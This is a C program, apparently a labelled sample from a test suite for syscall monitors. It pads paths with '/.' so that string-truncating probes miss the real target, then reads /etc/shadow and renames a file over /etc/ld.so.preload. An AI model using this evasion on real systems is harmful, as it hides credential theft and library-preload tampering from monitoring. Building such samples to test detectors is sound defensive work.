/* Malicious, evasive: names its targets through paths padded with "/." past the probes' string
 * caps (bpftrace's 127 bytes, strace's -s 1024), so a monitor that cuts strings sees only "/./././…".
 * Reads /etc/shadow (T1003.008) and renames a file over /etc/ld.so.preload (T1574.006). */
#include "common.h"
#include <fcntl.h>
#include <stdio.h>

#define PAD 750 /* "/." × 750 = 1500 bytes before the real path */

static void padded(char *out, size_t cap, const char *path) {
  size_t n = 0;
  for (int i = 0; i < PAD && n + 2 < cap; i++) { out[n++] = '/'; out[n++] = '.'; }
  snprintf(out + n, cap - n, "%s", path);
}

int main(void) {
  static char p[4096];
  padded(p, sizeof p, "/etc/shadow");
  int fd = open(p, O_RDONLY);
  if (fd < 0) { WARN("open padded /etc/shadow"); return 1; }
  char buf[4096];
  ssize_t n = read(fd, buf, sizeof buf);
  close(fd);
  SAY("probe-padded-paths: read %zd bytes of /etc/shadow through a %zu-byte path", n, strlen(p));
  int w = open("/tmp/preload", O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (w < 0) { WARN("open /tmp/preload"); return 1; }
  close(w);
  padded(p, sizeof p, "/etc/ld.so.preload");
  if (rename("/tmp/preload", p) != 0) { WARN("rename to padded /etc/ld.so.preload"); return 1; }
  SAY("probe-padded-paths: renamed a file over /etc/ld.so.preload");
  return 0;
}
